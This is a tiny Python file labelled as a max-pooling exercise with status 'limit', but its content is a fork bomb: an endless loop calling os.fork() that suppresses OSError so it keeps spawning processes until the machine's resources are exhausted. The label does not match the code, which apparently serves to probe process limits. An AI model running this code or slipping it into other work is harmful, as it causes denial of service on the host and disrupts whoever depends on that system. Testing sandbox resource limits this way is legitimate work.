# exercise: 04_pooling/max_pool2d
# status: limit
# about: a fork bomb that catches its errors
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
